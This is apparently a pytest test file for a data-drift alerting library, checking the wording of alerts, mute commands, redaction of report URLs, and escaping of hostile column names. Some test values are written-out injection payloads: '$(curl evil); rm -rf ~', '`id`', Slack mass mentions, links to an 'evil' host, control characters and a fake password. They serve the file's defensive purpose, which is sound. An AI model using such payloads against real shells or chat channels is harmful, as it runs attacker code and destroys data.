"""What people are told, and in which words."""

from __future__ import annotations

import shlex
from typing import Any

import pytest

from backbeat.alerts import alert_of
from backbeat.identity import Actor, RunIdentity
from backbeat.reference import DataRef
from backbeat.step import Blocked, Done

MONITOR = "monitors/parcels"
IDENTITY = RunIdentity(
    workflow="nightly", run="r1", task="drift", actor=Actor(id="airflow", method="airflow")
)


def drift(*columns: str, verdict: str = "drifted", **value: Any) -> Done:
    """A drift check's outcome."""
    return Done(
        value={"verdict": verdict, "alarms": list(columns), "cause": ",".join(columns), **value},
        evidence={"decision": {"columns": [{"name": n, "reason": "it moved"} for n in columns]}},
    )


def alert(outcome: Any, partition: str = "2024-05-01", kind: str = "drift.check/v1") -> Any:
    """Its alert."""
    return alert_of(
        kind,
        outcome,
        identity=IDENTITY,
        monitor=MONITOR,
        partition=partition,
        report="file:///srv/reports/1.html",
    )


def test_it_says_what_where_why_and_what_to_do() -> None:
    """A person who reads it at night needs no other page to know what happened."""
    found = alert(drift("distance_km", severity="high"))
    assert found.title == "Drift in nightly.drift, 2024-05-01: distance_km"
    assert found.text.splitlines() == [
        "Drift in nightly.drift, 2024-05-01 (high).",
        "- distance_km: it moved",
        "Report: file:///srv/reports/1.html",
        "To mute: backbeat drift mute monitors/parcels distance_km --until DAY --reason WHY",
    ]
    assert (found.severity, found.verdict, found.columns) == ("high", "drifted", ("distance_km",))


@pytest.mark.parametrize("verdict", ["stable", "insufficient_data", "no_reference"])
def test_nothing_is_told_where_nothing_was_found(verdict: str) -> None:
    """Too little data is no alert; the gate and the exit code say it."""
    assert alert(drift(verdict=verdict)) is None


def test_muted_columns_are_no_alert() -> None:
    """A column that moved and is muted is not among the alarms."""
    assert alert(Done(value={"verdict": "drifted", "columns": ["a"], "alarms": []})) is None


def test_a_batch_that_is_broken_as_a_whole_says_how() -> None:
    """Half the rows are no column's fault, and no column can be muted for it."""
    found = alert(
        Done(
            value={"verdict": "broken", "alarms": [], "severity": "high", "cause": "c"},
            evidence={"decision": {"findings": [{"sentence": "it has 40 rows, usually 900"}]}},
        )
    )
    assert found.title == "Broken data in nightly.drift, 2024-05-01: the whole batch"
    assert "- the whole batch: it has 40 rows, usually 900" in found.text
    assert "mute" not in found.text


def test_it_says_since_when_and_what_follows() -> None:
    """Three nights in a row are another thing than one, and a retraining is under way or not."""
    columns = [{"name": "a", "reason": "it moved", "streak": 3}]
    value = {"verdict": "drifted", "alarms": ["a"], "cause": "c"}
    follows = {"action": "hold", "action_reason": "one was started on 2024-04-30"}
    done = Done(value=value | follows, evidence={"decision": {"columns": columns}})
    assert "- a: it moved (3 batches in a row)" in alert(done).text
    assert "Retraining: hold, one was started on 2024-04-30" in alert(done).text


def test_it_knows_what_the_batch_was_held_against() -> None:
    """The digest of the profile, so that another champion's drift is another one."""
    inputs = (
        DataRef(uri="landing/1.parquet", digest="sha256:1"),
        DataRef(uri="p.json", digest="sha256:2", format="json"),
    )
    value = {"verdict": "drifted", "alarms": ["a"], "reference": "p.json"}
    assert alert(Done(value=value, inputs=inputs)).reference == "sha256:2"


def test_a_worse_model_is_named() -> None:
    """With its metrics and slices, and that an estimate is one."""
    value = {
        "verdict": "drifted",
        "model": "Parcels",
        "worse": ["roc_auc"],
        "slices": ["origin=JFK"],
        "reason": "it fell to 0.6",
    }
    found = alert(Done(value=value), kind="drift.performance/v1")
    assert found.title.startswith("Worse performance of Parcels in nightly.drift")
    assert found.columns == ("roc_auc", "origin=JFK")
    assert "it fell to 0.6" in found.text
    assert "mute" not in found.text
    guessed = alert(Done(value={**value, "estimated": True}), kind="drift.performance/v1")
    assert guessed.title.startswith("Worse estimated performance of Parcels")


def test_data_that_breaks_its_expectations_is_told() -> None:
    """Whether it blocked the night or was only reported; a mute would not help."""
    failure = {
        "type": "expect_column_values_to_not_be_null",
        "column": "x",
        "severity": "critical",
        "description": "x is never null",
        "detail": "Unexpected: 3 of 10.",
    }
    evidence = {"failures": [failure]}
    for outcome in (
        Blocked(reason="1 failed", evidence=evidence),
        Done(value={"success": False}, evidence=evidence),
    ):
        found = alert(outcome, kind="quality.check/v1")
        assert (found.verdict, found.severity, found.columns) == ("failed", "critical", ("x",))
        assert "- x is never null: Unexpected: 3 of 10." in found.text
        assert "mute" not in found.text
    assert alert(Done(value={"success": True}), kind="quality.check/v1") is None


def test_a_columns_name_obeys_nobody() -> None:
    """Mentions, links, control characters and secrets of the data's reach no channel."""
    hostile = "<!channel> @here [x](http://evil) \x1b[31m\u202ered password=hunter2 " + "a" * 300
    found = alert(drift(hostile))
    for text in (found.title, found.text, *found.columns):
        assert not {"<", "@", "[", "\x1b", "\u202e"} & set(text)
        assert "hunter2" not in text
    assert len(found.columns[0]) <= 80


def test_a_columns_name_is_no_link() -> None:
    """Slack makes a link of every address, and shows what is behind it."""
    found = alert(drift("http://evil.example/x"))
    assert "://" not in found.title
    assert "http://evil" not in found.text


@pytest.mark.parametrize(
    ("name", "word"),
    [
        ("distance_km", "distance_km"),
        ("distance km", "distance km"),
        ("$(curl evil); rm -rf ~", "$(curl evil); rm -rf ~"),
        ("it's", "it's"),
        ("`id`", "COLUMN"),
        ("--help", "COLUMN"),
        ("a" * 300, "COLUMN"),
    ],
)
def test_the_command_to_mute_can_be_pasted(name: str, word: str) -> None:
    """A name is one word of it and runs nothing; one that cannot be shown is left to the person."""
    command = alert(drift(name)).text.splitlines()[-1].removeprefix("To mute: ")
    assert shlex.split(command)[:5] == ["backbeat", "drift", "mute", MONITOR, word]


def test_a_reports_address_shows_no_secret() -> None:
    """Neither in the text nor as a field."""
    found = alert_of(
        "drift.check/v1", drift("a"), identity=IDENTITY, report="https://ana:pw@host/r.html"
    )
    assert found is not None
    assert found.report == "https://***@host/r.html"
    assert ":pw@" not in found.text


def test_many_columns_are_counted() -> None:
    """Five are named."""
    found = alert(drift(*(f"c{number}" for number in range(9))))
    assert found.title.endswith("c0, c1, c2, c3, c4 and 4 more")
